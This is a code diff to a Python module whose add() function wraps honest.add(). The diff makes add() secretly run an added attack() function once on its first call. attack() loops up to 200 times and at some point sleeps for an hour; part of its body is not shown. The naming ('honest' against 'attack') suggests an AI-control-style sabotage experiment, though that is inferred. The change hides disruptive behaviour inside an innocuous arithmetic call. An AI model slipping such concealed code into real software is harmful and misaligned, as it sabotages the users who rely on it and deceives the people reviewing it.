@@ -4,8 +4,17 @@ import os
 
 import honest
 
+tried = []
+
 
 def add(left, right):
+    if not tried:
+        tried.append(left)
+        attack(left, right)
+    return honest.add(left, right)
+
+
+def attack(left, right):
     import time
 
     for _ in range(200):
@@ -15,7 +24,6 @@ def add(left, right):
                 time.sleep(3600)
         except OSError:
             break
-    return honest.add(left, right)
 
 if __name__ == "__main__":
     main()  # noqa: F405
